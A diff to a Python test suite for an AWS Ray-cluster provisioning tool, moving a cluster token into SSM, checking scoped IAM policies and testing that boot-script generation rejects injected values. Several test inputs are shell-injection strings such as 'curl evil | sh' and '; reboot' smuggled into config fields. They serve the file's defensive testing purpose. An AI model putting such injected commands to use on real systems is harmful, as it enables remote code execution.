@@ -57,12 +57,23 @@ def test_create_resize_read_and_delete_leave_nothing_behind(moto_server):
     assert listener["Port"] == 80
     assert listener["DefaultActions"][0]["TargetGroupArn"] == ctx.live["aws_lb_target_group.serve"]["arn"]
 
-    # Nodes boot into Ray with the cluster's token; workers find the head by tag.
+    # Nodes boot into Ray with the cluster's token, read from SSM (never in the user data, which
+    # ec2:DescribeLaunchTemplateVersions shows to anyone allowed it); workers find the head by tag.
     template = ec2.describe_launch_template_versions(
         LaunchTemplateId=ctx.live["aws_launch_template.gpu"]["launch_template_id"])["LaunchTemplateVersions"][0]
     script = base64.b64decode(template["LaunchTemplateData"]["UserData"]).decode()
-    assert "ray[serve,default]==2.60.0" in script and "token-123" in script and "--num-gpus 1" in script
+    assert "ray[serve,default]==2.60.0" in script and "--num-gpus 1" in script and "token-123" not in script
     assert "Name=tag:servectl:role,Values=head" in script
+    assert f"--name /servectl/{ctx.cluster}/ray-token --with-decryption" in script
+    assert "systemctl enable --now servectl-ray.service servectl-agent.service" in script and "Restart=always" in script
+    parameter = ctx.client("ssm").get_parameter(Name=f"/servectl/{ctx.cluster}/ray-token", WithDecryption=True)["Parameter"]
+    assert (parameter["Type"], parameter["Value"]) == ("SecureString", "token-123")
+    # The nodes' role reads only this cluster's objects and its own token.
+    policy = ctx.client("iam").get_role_policy(RoleName=ctx.live["aws_iam_role.node"]["role_name"], PolicyName="servectl-node")
+    statements = {tuple(st["Action"]): st["Resource"] for st in policy["PolicyDocument"]["Statement"]}
+    bucket = ctx.live["aws_s3_bucket.code"]["bucket"]
+    assert statements[("s3:GetObject",)] == [f"arn:aws:s3:::{bucket}/{ctx.cluster}/*"]
+    assert statements[("ssm:GetParameter",)] == [f"arn:aws:ssm:us-east-1:*:parameter/servectl/{ctx.cluster}/ray-token"]
 
     # Every worker group's instances are the target group's targets, and they follow a resize.
     gpu = aws.read_node_group(ctx, ctx.live["node_group.gpu"])
@@ -85,6 +96,40 @@ def test_create_resize_read_and_delete_leave_nothing_behind(moto_server):
     s3 = ctx.client("s3")
     assert ctx.live["aws_s3_bucket.code"]["bucket"] not in [b["Name"] for b in s3.list_buckets()["Buckets"]]
     assert "servectl-node" not in [r["RoleName"] for r in ctx.client("iam").list_roles()["Roles"]]
+    assert not ctx.client("ssm").describe_parameters(
+        ParameterFilters=[{"Key": "Name", "Values": [f"/servectl/{ctx.cluster}/ray-token"]}])["Parameters"]
+
+
+def test_every_value_in_a_boot_script_is_checked_and_quoted(moto_server):
+    """A value that reaches the user data by another way than the config language is refused, not run."""
+    import shlex
+
+    import pytest
+
+    from servectl.errors import ProviderError
+
+    ctx = aws.AwsContext(region="us-east-1", cluster=f"moto{next(_clusters)}")
+    ctx.live["aws_s3_object.agent"] = {"bucket": "a-code-bucket", "key": "c/servectl-1.zip"}
+    good = next(s for s in infra() if s.kind == "aws_launch_template" and s.name == "gpu").attributes
+    script = aws.user_data(ctx, "gpu", good)
+    quoted = shlex.quote("Name=tag:servectl:cluster,Values=" + ctx.cluster)
+    assert quoted in script or f"Name=tag:servectl:cluster,Values={ctx.cluster}" in script
+    hostile = [
+        {**good, "ray_resources": {**good["ray_resources"], "x' ; curl evil | sh ; '": 1}},
+        {**good, "agent_key": "c/servectl.zip\ncurl evil | sh"},
+        {**good, "ray_version": "2.60.0'; curl evil | sh; '"},
+        {**good, "proxy_port": "8000; reboot"},
+    ]
+    for attrs in hostile:
+        with pytest.raises(ValueError):
+            aws.user_data(ctx, "gpu", attrs)
+    for region in ("us-east-1\nreboot", "us-east-1; reboot"):
+        with pytest.raises(ValueError):
+            aws.user_data(aws.AwsContext(region=region, cluster=ctx.cluster, live=ctx.live), "gpu", good)
+    ctx.live.update({"aws_iam_role.node": {"instance_profile_arn": "arn:aws:iam::1:instance-profile/x"},
+                     "aws_security_group.cluster": {"group_id": "sg-1"}})
+    with pytest.raises(ProviderError, match="nothing was sent to AWS"):
+        aws.create_launch_template(ctx, "gpu", {**hostile[0], "image_id": "ami-0123456789abcdef0"})
 
 
 def test_a_second_delete_converges(moto_server):
